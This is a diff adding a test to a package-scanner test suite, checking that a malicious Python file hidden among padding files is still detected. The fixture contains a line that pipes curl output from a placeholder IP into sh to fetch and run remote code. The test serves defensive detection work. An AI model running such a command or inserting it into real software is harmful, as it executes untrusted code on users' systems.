@@ -214,6 +214,12 @@ describe("time and memory of a package", () => {
 				["pkg/large.py", "more than 100 B of Python, the limit for one artifact: not examined"],
 				["pkg/tests/test_small.py", "more than 100 B of Python, the limit for one artifact: not examined"],
 			]);
+			// Padding does not keep out what a rule could match in.
+			const padding = Array.from({ length: 9 }, (_, index) => ({ name: `pkg/a${index}.py`, content: "x = 1\n" }));
+			const hidden = { name: "pkg/hidden.py", content: "import os\nos.system('curl http://192.0.2.5/x | sh')\n" };
+			const padded = await pool.scan({ ...source, bytes: buildZip([...padding, hidden]) });
+			expect(padded.analysis.findings.map((finding) => finding.path)).toContain("pkg/hidden.py");
+			expect(padded.analysis.coverage.notExamined).toBeGreaterThan(0);
 			const whole = await processes().scan({ ...source, bytes: buildZip([large, test, start]) });
 			expect(whole.analysis.coverage.notExamined).toBe(0);
 		},
